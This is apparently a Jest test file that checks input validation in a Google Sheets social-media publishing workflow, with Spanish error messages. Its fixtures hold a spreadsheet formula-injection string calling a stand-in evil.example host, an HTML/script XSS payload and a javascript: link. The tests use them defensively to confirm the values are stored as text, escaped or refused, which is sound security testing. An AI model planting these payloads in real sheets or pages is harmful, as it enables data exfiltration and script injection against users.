// Bad input: formula text stays text, HTML stays text in e-mails, and every refused input leaves the workbook untouched with a Spanish message.
import { a1, ASISTENTE, cell, PROPUESTA, TITULAR, verdict, withPublication, visto } from './auth-fixture';

const SHEETS = ['Calendario', 'Propuestas', 'Boletines CS01', 'Autorizaciones', 'Bitácora'];

function snapshot(emu: ReturnType<typeof withPublication>['emu']): unknown[] {
  return SHEETS.map((s) => emu.values(s));
}

const FORMULAS = ['=IMPORTXML("https://evil.example/x","//a")', '+52 844 000 0000', '-ver más', '@icm_coahuila dice'];

describe('auth: bad input', () => {
  test.each(FORMULAS)('formula-looking text «%s» is stored as text in a proposal and in a publication, and authorizes exactly', (f) => {
    const { emu, propuesta } = withPublication();
    const p = emu.call('panelCrearPropuesta', [{ ...PROPUESTA, tema: f, direccion: f, descripcion: f }], { as: ASISTENTE }) as { id: string };
    expect(cell(emu, 'Propuestas', p.id, 'Tema')).toBe(f);
    expect(cell(emu, 'Propuestas', p.id, 'Descripción')).toBe(f);
    const pub = emu.call('panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-03', hora: '10:00', redes: ['X', 'Facebook', 'Web'], textoX: f, textoFacebook: f, textoWeb: f, imagen: '' }], { as: ASISTENTE }) as { id: string };
    expect(cell(emu, 'Calendario', pub.id, 'Texto X')).toBe(f);
    expect(cell(emu, 'Calendario', pub.id, 'Texto web')).toBe(f);
    expect(emu.dump('Propuestas')?.formulas).toEqual({});
    expect(emu.dump('Calendario')?.formulas).toEqual({});
    emu.call('panelAutorizar', [visto(emu, 'calendario', pub.id)], { as: TITULAR });
    expect(verdict(emu, pub.id)).toMatchObject({ ok: true });
  });

  test('HTML and script typed into a cell reach the Titular\'s e-mail escaped, never as markup', () => {
    const { emu, id } = withPublication();
    const mails = emu.world.outbox.length;
    const evil = '<img src=x onerror=alert(1)><script>alert("x")</script>';
    emu.edit(a1(emu, 'Calendario', id, 'Autorización'), evil, { as: TITULAR, hideUser: true });
    const sent = emu.world.outbox.slice(mails);
    expect(sent).toHaveLength(1);
    expect(sent[0].htmlBody).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(sent[0].htmlBody).not.toMatch(/<script|<img/i);
    expect(sent[0].body).toContain(evil); // the plain-text part shows it literally
  });

  const cases: Array<[string, (f: ReturnType<typeof withPublication>) => [string, unknown[], string], RegExp, string]> = [
    ['an X text over 280 weighted characters', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-04', hora: '10:00', redes: ['X'], textoX: 'ñ'.repeat(250) + ' https://icm.gob.mx/' + ' 😀'.repeat(10), textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /El texto para X mide 304 caracteres y el máximo es 280/, 'TEXTO_INVALIDO'],
    // Facebook takes 63,206 characters, but a Sheets cell holds only 50,000: the cell's limit refuses it first.
    ['a Facebook text over 63,206 characters', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-04', hora: '10:00', redes: ['Facebook'], textoX: '', textoFacebook: 'a'.repeat(63207), textoWeb: '', imagen: '' }], ASISTENTE], /«Texto Facebook» mide 63,207 caracteres; el máximo es 50,000 \(lo que cabe en una celda/, 'CAMPO_LARGO'],
    ['a proposal with an empty tema', () => ['panelCrearPropuesta', [{ ...PROPUESTA, tema: '  ' }], ASISTENTE], /Escriba el tema de la propuesta/, 'PROPUESTA_INVALIDA'],
    ['a proposal with no networks', () => ['panelCrearPropuesta', [{ ...PROPUESTA, redes: [] }], ASISTENTE], /Elija al menos una red/, 'PROPUESTA_INVALIDA'],
    ['a proposal whose period ends before it starts', () => ['panelCrearPropuesta', [{ ...PROPUESTA, del: '2026-12-10', al: '2026-12-01' }], ASISTENTE], /termina \(2026-12-01\) antes de empezar \(2026-12-10\)/, 'PROPUESTA_INVALIDA'],
    ['a publication without a date', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '', hora: '10:00', redes: ['X'], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /Indique la fecha de la publicación/, 'FECHA_INVALIDA'],
    ['a publication without networks', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-04', hora: '10:00', redes: [], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /Elija al menos una red/, 'REDES_VACIAS'],
    ['a publication dated outside its proposal\'s period', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2027-01-05', hora: '10:00', redes: ['X'], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /fuera del periodo de la propuesta .* \(del 2026-12-01 al 2026-12-31\)/, 'FECHA_FUERA_DE_PERIODO'],
    ['a publication for an unknown proposal', () => ['panelGuardarPublicacion', [{ id: '', propuesta: 'PRO-1999-0001', fecha: '2026-12-04', hora: '10:00', redes: ['X'], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /No existe la propuesta «PRO-1999-0001»/, 'ELEMENTO_DESCONOCIDO'],
    ['editing an unknown publication', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: 'CAL-20991231-9', propuesta, fecha: '2026-12-04', hora: '10:00', redes: ['X'], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /No existe la publicación «CAL-20991231-9»/, 'ELEMENTO_DESCONOCIDO'],
    ['a malformed hour', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-04', hora: '25:99', redes: ['X'], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: '' }], ASISTENTE], /La hora «25:99» no es válida/, 'HORA_INVALIDA'],
    ['an image that is not a Drive link', ({ propuesta }) => ['panelGuardarPublicacion', [{ id: '', propuesta, fecha: '2026-12-04', hora: '10:00', redes: ['X'], textoX: 'Hola', textoFacebook: '', textoWeb: '', imagen: 'javascript:alert(1)' }], ASISTENTE], /La imagen debe ser un enlace https/, 'IMAGEN_INVALIDA'],
    ['authorizing an unknown ID', () => ['panelAutorizar', [{ hoja: 'calendario', id: 'CAL-20991231-1', huella: '0'.repeat(64) }], TITULAR], /No existe la publicación «CAL-20991231-1» en la hoja «Calendario»/, 'ELEMENTO_DESCONOCIDO'],
    ['authorizing an unknown kind of item', () => ['panelAutorizar', [{ hoja: 'Bitácora', id: '1' }], TITULAR], /no es una propuesta, una publicación ni un boletín/, 'ELEMENTO_INVALIDO'],
    ['an over-long comment', ({ emu, id }) => ['panelRechazar', [visto(emu, 'calendario', id), 'x'.repeat(2001)], TITULAR], /El comentario mide 2001 caracteres; el máximo es 2000/, 'COMENTARIO_LARGO'],
    ['a bulk selection with a repeated item', ({ emu, id }) => ['panelAutorizarVarios', [[visto(emu, 'calendario', id), visto(emu, 'calendario', id)]], TITULAR], /aparece dos veces/, 'SELECCION_REPETIDA'],
    ['a decision without the fingerprint of the reviewed content', ({ id }) => ['panelAutorizar', [{ hoja: 'calendario', id }], TITULAR], /No se sabe qué versión/, 'HUELLA_REQUERIDA'],
    ['an empty bulk selection', () => ['panelAutorizarVarios', [[]], TITULAR], /Seleccione al menos un elemento/, 'SELECCION_VACIA'],
  ];

  test.each(cases)('%s: Spanish message, nothing written', (_name, make, message, code) => {
    const f = withPublication();
    const before = snapshot(f.emu);
    const [fn, args, as] = make(f);
    const r = f.emu.run(fn, args, { as });
    expect(r.error).toBeDefined();
    expect(r.error!.code).toBe(code);
    expect(r.error!.message).toMatch(message);
    expect(snapshot(f.emu)).toEqual(before);
  });

  test('authorizing a publication whose X text was made too long by hand is refused, nothing written', () => {
    const { emu, id } = withPublication();
    emu.edit(a1(emu, 'Calendario', id, 'Texto X'), 'x'.repeat(281), { as: ASISTENTE });
    const before = snapshot(emu);
    const r = emu.run('panelAutorizar', [visto(emu, 'calendario', id)], { as: TITULAR });
    expect(r.error).toMatchObject({ code: 'TEXTO_INVALIDO' });
    expect(r.error!.message).toMatch(/^La publicación .* no puede autorizarse: El texto para X mide 281 caracteres/);
    expect(snapshot(emu)).toEqual(before);
  });
});
